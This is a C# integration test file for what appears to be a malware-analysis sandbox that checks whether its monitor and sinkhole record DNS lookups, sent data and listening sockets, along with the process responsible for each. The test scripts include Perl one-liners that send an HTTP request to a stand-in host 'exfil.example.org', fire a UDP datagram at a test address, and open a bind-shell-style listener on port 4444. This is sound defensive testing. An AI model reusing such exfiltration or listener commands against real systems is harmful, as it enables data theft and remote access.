using System.Text;
using Docker.DotNet;
using Docker.DotNet.Models;
using DynamicProbe.Core.Analysis;
using DynamicProbe.Core.Events;
using DynamicProbe.Core.Pipeline;
using DynamicProbe.Core.Policy;
using DynamicProbe.Core.Scenarios;
using DynamicProbe.Sandbox.Docker;
using DynamicProbe.Sandbox.Network;
using DynamicProbe.Sandbox.Running;
using static DynamicProbe.Integration.Tests.Network.NetworkTestScenarios;

namespace DynamicProbe.Integration.Tests.Network;

/// <summary>
/// Whole runs with the real monitor and the real catcher: what a program looks up and sends ends up in the
/// recording with the process that did it, under <c>network: sinkhole</c> and <c>network: none</c>.
/// </summary>
[TestFixture]
[NonParallelizable]
public sealed class SinkholeRunTests
{
    private const string LookUpAndSend =
        "getent hosts exfil.example.org; "
        + "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => q{exfil.example.org:80}) or die qq{connect: $!}; "
        + "print $s qq{GET /collect?k=v HTTP/1.1\\r\\nHost: exfil.example.org\\r\\n\\r\\n}; print scalar <$s>'; "
        + "perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0) or die; send(S, q{udp-payload}, 0, pack_sockaddr_in(9999, inet_aton(q{192.0.2.7}))) or die qq{send: $!}'";

    private DockerEngine engine = null!;
    private SandboxRunner runner = null!;

    [SetUp]
    public void CreateRunner()
    {
        engine = DockerEngine.FromEnvironment();
        IDockerClient docker = engine.Client;
        runner = new SandboxRunner(docker, SharedMonitor.Monitor,
            new SandboxRunnerOptions(Sinkhole: new SinkholePodOptions(CatcherFolder: PublishedCatcher.Folder)));
    }

    [TearDown]
    public async Task NothingOfThisRunIsLeft()
    {
        var owner = OwnerIdentity.Current().ToString();
        var left = await engine.Client.Containers.ListContainersAsync(new ContainersListParameters
        {
            All = true,
            Filters = new Dictionary<string, IDictionary<string, bool>> { ["label"] = new Dictionary<string, bool> { [$"{SandboxLabels.Owner}={owner}"] = true } },
        });
        engine.Dispose();
        Assert.That(left.Select(c => c.Names.FirstOrDefault()), Is.Empty, "containers of this test run left behind");
    }

    [Test]
    public async Task A_lookup_and_what_is_sent_to_its_answer_are_caught_with_the_process_that_did_it()
    {
        var outcome = await runner.RunAsync(Script(LookUpAndSend, NetworkMode.Sinkhole), null, NoProgress.Instance, CancellationToken.None);

        Assert.That(outcome.Steps.Single().Succeeded, Is.True, outcome.Steps.Single().Detail + outcome.Steps.Single().Stderr);
        Assert.That(outcome.Steps.Single().Stdout, Does.Contain("exfil.example.org").And.Contain("HTTP/1.1 200"));
        Assert.That(outcome.Recording.Health.IsComplete, Is.True, outcome.Recording.Health.Problem);
        var events = outcome.Recording.Events;
        Assert.That(events.Select(e => e.Time), Is.Ordered);

        var lookups = events.OfType<DnsQueryEvent>().Where(d => d.Name == "exfil.example.org").ToList();
        var getent = events.OfType<ProcessExecEvent>().Single(e => e.Path == "/usr/bin/getent");
        var answered = lookups.First(d => d.QueryType == "A" && d.Pid == getent.Pid);
        Assert.That(answered.Answer, Does.StartWith("198.1"), "the fake DNS gives a 198.18.0.0/15 address");
        Assert.That(answered.Process, Is.EqualTo("/usr/bin/getent"));
        Assert.That(lookups.Select(d => d.Pid), Has.None.Zero, "a lookup was not attributed");
        Assert.That(lookups.GroupBy(d => (d.Pid, d.QueryType, d.Time)).Where(g => g.Count() > 1), Is.Empty, "the monitor's reading of a question was kept beside the catcher's");

        var perls = events.OfType<ProcessExecEvent>().Where(e => e.Path == "/usr/bin/perl").Select(e => e.Pid).ToList();
        var http = events.OfType<SinkholeCaptureEvent>().Single(c => c.Protocol == "tcp");
        Assert.That((http.Address, http.Port, http.DnsName), Is.EqualTo((answered.Answer, 80, "exfil.example.org")));
        Assert.That(Encoding.ASCII.GetString(Convert.FromBase64String(http.FirstBytesBase64)), Does.StartWith("GET /collect?k=v HTTP/1.1\r\nHost: exfil.example.org"));
        Assert.That((http.Pid, http.Process), Is.EqualTo((perls[0], "/usr/bin/perl")));

        var datagram = events.OfType<SinkholeCaptureEvent>().Single(c => c.Protocol == "udp");
        Assert.That((datagram.Address, datagram.Port, datagram.TotalBytes), Is.EqualTo(("192.0.2.7", 9999, 11L)));
        Assert.That(Encoding.ASCII.GetString(Convert.FromBase64String(datagram.FirstBytesBase64)), Is.EqualTo("udp-payload"));
        Assert.That((datagram.Pid, datagram.Process), Is.EqualTo((perls[1], "/usr/bin/perl")));
    }

    [Test]
    public async Task Under_network_none_a_lookup_is_recorded_with_its_name_and_no_answer()
    {
        var outcome = await runner.RunAsync(Script("getent hosts exfil.example.org; echo exit=$?", NetworkMode.None), null, NoProgress.Instance, CancellationToken.None);

        Assert.That(outcome.Steps.Single().Stdout, Is.EqualTo("exit=2\n"), "the name must not resolve");
        Assert.That(outcome.Recording.Health.IsComplete, Is.True, outcome.Recording.Health.Problem);
        var lookups = outcome.Recording.Events.OfType<DnsQueryEvent>().ToList();
        Assert.That(lookups.Select(d => (d.Name, d.QueryType, d.Answer, d.Process)).Distinct(),
            Is.SupersetOf(new[] { ("exfil.example.org", "A", (string?)null, "/usr/bin/getent"), ("exfil.example.org", "AAAA", (string?)null, "/usr/bin/getent") }));
        Assert.That(outcome.Recording.Events.OfType<NetworkEvent>().Where(n => n.Operation == NetworkOperation.Connect).Select(n => n.Endpoint),
            Does.Contain("127.0.0.53:53"));
        Assert.That(outcome.Recording.Events.OfType<SinkholeCaptureEvent>(), Is.Empty);
    }

    [Test]
    public async Task Network_expectations_judge_lookups_connects_and_a_bind_shells_listen()
    {
        var script = "getent hosts api.example.com; getent hosts exfil.example.org; "
            + "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(LocalAddr => q{0.0.0.0:4444}, Listen => 1, ReuseAddr => 1) or die qq{listen: $!}'; "
            + "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => q{api.example.com:443}) or die qq{connect: $!}'";
        var expect = Expectations.Empty with { Dns = ["*.example.com"], Connect = ["10.0.0.2:53", "198.*:443", "/var/run/nscd/socket"] };

        var outcome = await runner.RunAsync(Script(script, NetworkMode.Sinkhole, expect), null, NoProgress.Instance, CancellationToken.None);

        Assert.That(outcome.Steps.Single().Succeeded, Is.True, outcome.Steps.Single().Detail + outcome.Steps.Single().Stderr);
        Assert.That(outcome.Recording.Health.IsComplete, Is.True, outcome.Recording.Health.Problem);
        var findings = new BehaviourAnalyzer(RuleBook.BuiltIn()).Analyze(outcome.Recording, expect);
        var network = findings.Where(f => f.Rule is "unexpected-dns" or "unexpected-connect" or "unexpected-listen" or "unexpected-send")
            .Select(f => (f.Rule, f.Message)).ToList();
        Assert.That(network, Is.EquivalentTo(new[]
        {
            ("unexpected-dns", "looked up exfil.example.org"),
            ("unexpected-listen", "opened a server socket on 0.0.0.0:4444"),
        }));
    }

    [Test]
    public async Task When_the_timeout_strikes_what_was_caught_so_far_is_kept_and_both_containers_are_removed()
    {
        var script = "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => q{203.0.113.5:8443}) or die qq{connect: $!}'; sleep 60";
        var scenario = Script(script, NetworkMode.Sinkhole);
        scenario = scenario with { Sandbox = scenario.Sandbox with { Timeout = TimeSpan.FromSeconds(5) } };

        var outcome = await runner.RunAsync(scenario, null, NoProgress.Instance, CancellationToken.None);

        Assert.That(outcome.TimedOut, Is.True);
        Assert.That(outcome.Recording.Events.OfType<SinkholeCaptureEvent>().Select(c => c.Endpoint), Is.EqualTo(new[] { "203.0.113.5:8443" }));
    }

    [Test]
    public void Cancelling_a_sinkhole_run_removes_both_containers_and_throws()
    {
        using var cancel = new CancellationTokenSource(TimeSpan.FromSeconds(3));

        Assert.That(async () => await runner.RunAsync(Script("sleep 60", NetworkMode.Sinkhole), null, NoProgress.Instance, cancel.Token), Throws.InstanceOf<OperationCanceledException>());
    }
}
